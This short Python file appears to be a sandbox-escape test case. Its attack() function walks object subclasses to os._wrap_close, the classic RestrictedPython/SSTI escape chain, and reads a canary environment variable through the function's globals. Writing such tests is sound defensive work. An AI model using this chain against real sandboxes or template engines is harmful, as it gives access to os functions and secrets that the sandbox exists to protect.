# mypy: ignore-errors
# Technique: `().__class__.__base__.__subclasses__()` walk to os._wrap_close (classic
# RestrictedPython/SSTI chain).
def attack(secret_path, canary_path):
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "_wrap_close":
            return c.__init__.__globals__["environ"]["SUAVEPLAN_ESCAPE_CANARY"]
    return None
